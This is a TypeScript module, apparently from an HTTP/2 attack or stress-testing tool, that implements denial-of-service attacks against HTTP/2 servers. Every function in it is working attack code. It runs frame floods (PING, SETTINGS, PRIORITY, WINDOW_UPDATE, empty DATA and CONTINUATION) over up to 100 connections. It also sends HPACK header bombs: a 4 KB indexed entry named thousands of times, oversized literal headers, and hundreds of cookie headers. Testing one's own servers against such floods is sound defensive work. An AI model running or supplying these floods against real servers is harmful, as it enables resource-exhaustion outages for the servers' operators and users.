import { literal, newest, remembered } from '../hpack.ts'
import {
  continuation,
  data,
  headers,
  ping,
  priority,
  SETTING,
  settings,
  TYPE,
  windowUpdate,
} from '../http2-frames.ts'
import { RawHttp2 } from '../raw-http2.ts'
import type { AttackOptions, AttackTarget, Report } from './attack.ts'

const MOST = 200_000
const MOST_CONNECTIONS = 100
const BATCH = 200

export type FrameFlood = 'ping' | 'settings' | 'priority' | 'window-update' | 'empty-data' | 'continuation'

/** Frames that cost the sender next to nothing, for so long. */
export async function floodFrames(
  target: AttackTarget,
  options: AttackOptions & { flood: FrameFlood; ms?: number; most?: number; connections?: number },
): Promise<Report> {
  const { flood, ms = 1000, most = MOST, connections = MOST_CONNECTIONS, signal } = options
  const count = { frames: 0, connections: 0, failed: 0, goaways: 0 }
  const until = performance.now() + ms
  const isOver = (): boolean => signal.aborted || performance.now() >= until || count.frames >= most
  options.onInPlace?.()
  while (!isOver() && count.connections + count.failed < connections) {
    let client: RawHttp2
    try {
      client = await RawHttp2.begin(target, { polite: false })
      count.connections += 1
    } catch {
      count.failed += 1
      continue
    }
    const { socket } = client
    try {
      await socket.send(beginningOf(client, target, flood))
      const batch = Buffer.concat(Array.from({ length: BATCH }, (_, index) => frameOf(flood, index)))
      while (!isOver() && socket.isOpen && !socket.isOver) {
        await socket.send(batch)
        count.frames += BATCH
        await new Promise((resolve) => setImmediate(resolve))
      }
    } finally {
      socket.close()
    }
    count.goaways += client.count(TYPE.goaway)
  }
  return count
}

/** Some floods are about a stream that is open: stream 1. */
function beginningOf(client: RawHttp2, target: AttackTarget, flood: FrameFlood): Buffer {
  const block = client.block(target.manifest)
  if (flood === 'empty-data') return headers(1, block, { endStream: false })
  if (flood === 'continuation') return headers(1, block, { endHeaders: false })
  return Buffer.alloc(0)
}

function frameOf(flood: FrameFlood, index: number): Buffer {
  switch (flood) {
    case 'ping':
      return ping()
    case 'settings':
      return settings({ [SETTING.initialWindowSize]: index })
    case 'priority':
      return priority(2 * index + 1, 2 * index + 3, index % 256)
    case 'window-update':
      return windowUpdate(0, 1)
    case 'empty-data':
      return data(1, Buffer.alloc(0), { endStream: false })
    case 'continuation':
      return continuation(1, Buffer.alloc(0), { endHeaders: false })
  }
}

/** `indexed`: an entry of 4 KiB that is named thousands of times; `literal`: as much as the server lets in, written out. */
export type HeaderBomb = 'indexed' | 'literal' | 'cookies'

/** Requests of few bytes whose headers are large, or of as many as are let in, on many streams at once. */
export async function bombHeaders(
  target: AttackTarget,
  options: AttackOptions & { bomb: HeaderBomb; streams?: number; connections?: number },
): Promise<Report> {
  const { bomb, streams = 100, connections = 4, signal } = options
  const count = { streams: 0, failed: 0, answered: 0, reset: 0, goaways: 0, sent: 0 }
  options.onInPlace?.()
  for (let i = 0; i < connections && !signal.aborted; i += 1) {
    let client: RawHttp2
    try {
      client = await RawHttp2.open(target)
    } catch {
      count.failed += 1
      continue
    }
    const { socket } = client
    try {
      for (let each = 0; each < streams && socket.isOpen && !socket.isOver && !signal.aborted; each += 1) {
        const frames = bombOf(client, target, bomb, each === 0)
        count.sent += frames.length
        count.streams += 1
        await socket.send(frames)
      }
      await client.settled()
    } finally {
      socket.close()
    }
    count.answered += client.count(TYPE.headers)
    count.reset += client.count(TYPE.rstStream)
    count.goaways += client.count(TYPE.goaway)
  }
  return count
}

function bombOf(client: RawHttp2, target: AttackTarget, bomb: HeaderBomb, isFirst: boolean): Buffer {
  const stream = client.newStream()
  const request = client.block(target.manifest)
  const block = Buffer.concat([request, additionOf(bomb, isFirst)])
  const most = 16_000
  if (block.length <= most) return headers(stream, block)
  const frames = [headers(stream, block.subarray(0, most), { endHeaders: false })]
  for (let at = most; at < block.length; at += most) {
    const endHeaders = at + most >= block.length
    frames.push(continuation(stream, block.subarray(at, at + most), { endHeaders }))
  }
  return Buffer.concat(frames)
}

function additionOf(bomb: HeaderBomb, isFirst: boolean): Buffer {
  switch (bomb) {
    case 'indexed': {
      // The table is of 4096 bytes, and an entry counts for 32 more than its text.
      const entry = remembered(['x-bomb', 'x'.repeat(4000)])
      return isFirst ? Buffer.concat([entry, newest(4000)]) : newest(4000)
    }
    case 'literal':
      return literal(['x-large', 'x'.repeat(15_500)])
    case 'cookies':
      return Buffer.concat(Array.from({ length: 380 }, (_, index) => literal(['cookie', `c=${index}`])))
  }
}
